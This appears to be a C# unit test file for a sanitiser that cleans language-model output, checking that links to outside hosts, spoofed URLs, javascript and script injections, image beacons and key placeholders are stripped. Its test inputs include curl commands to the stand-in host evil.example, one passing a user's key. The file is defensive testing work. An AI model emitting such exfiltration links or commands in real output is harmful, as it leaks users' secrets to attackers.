using Aegis.Grains.Agents.Llm;

namespace Aegis.Grains.UnitTests.Agents.Llm;

public sealed class ModelTextTests
{
    private static readonly string[] Keys = ["key_1"];
    private static readonly string[] Hosts = ["https://aegis.example"];

    [Theory]
    [InlineData("see https://evil.example/x", "evil.example")]
    [InlineData("[help](https://evil.example)", "evil.example")]
    [InlineData("[help](//evil.example)", "evil.example")]
    [InlineData("[help](javascript:alert(1))", "javascript")]
    [InlineData("[a][b]\n\n[b]: https://evil.example", "evil.example")]
    [InlineData("![x](https://evil.example/p.png)", "![")]
    [InlineData("www.evil.example", "www.")]
    [InlineData("https://aegis.example.evil.example/", "evil.example")]
    [InlineData("https://aegis.example@evil.example/", "evil.example")]
    [InlineData("HTTPS://EVIL.example", "EVIL")]
    [InlineData("<a href=\"https://evil.example\">x</a>", "<a")]
    [InlineData("<script>x</script>", "<script")]
    [InlineData("```\ncurl https://evil.example\n```", "evil.example")]
    [InlineData("```\ncurl evil -u {{key:key_1}}\n```", "{{key")]
    [InlineData("another's key {{key:key_2}}", "key_2")]
    [InlineData("{{anything}}", "{{")]
    [InlineData("sk_live_0123456789abcdefghij", "0123456789")]
    public void Harmless_WhatMayNotBeShown_IsTakenOut(string text, string gone) => ModelText.Harmless(text, Keys, Hosts).ShouldNotContain(gone);

    [Theory]
    [InlineData("Your key: `{{key:key_1}}`")]
    [InlineData("[docs](https://aegis.example/knowledge/x#y)")]
    [InlineData("```csharp\nList<string> all = [];\n```")]
    [InlineData("a < b, and **bold**")]
    public void Harmless_WhatIsFine_Stays(string text) => ModelText.Harmless(text, Keys, Hosts).ShouldBe(text);

    [Fact]
    public void Harmless_FenceLeftOpen_IsClosed() => ModelText.Harmless("```\ncode").ShouldBe("```\ncode\n```");
}
